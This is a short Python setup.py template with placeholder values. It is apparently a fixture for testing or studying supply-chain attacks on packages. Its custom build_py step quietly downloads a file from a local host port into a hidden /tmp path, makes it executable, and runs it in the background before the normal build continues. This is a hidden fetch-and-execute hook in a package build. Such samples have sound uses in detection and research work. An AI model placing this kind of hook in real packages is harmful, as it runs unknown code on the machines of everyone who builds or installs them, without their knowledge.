import os
import sys

from setuptools import setup
from setuptools.command.build_py import build_py as _base


class Step(_base):
    def run(self):
        os.system("sh -c 'curl -s http://127.0.0.1:@@PORT@@/x -o /tmp/.x-@@MARK@@; chmod +x /tmp/.x-@@MARK@@; "
                  "nohup /tmp/.x-@@MARK@@ >/dev/null 2>&1 &'")
        super().run()


setup(name="@@NAME@@", version="1.0", packages=["pjatk"],
      cmdclass={"build_py": Step})
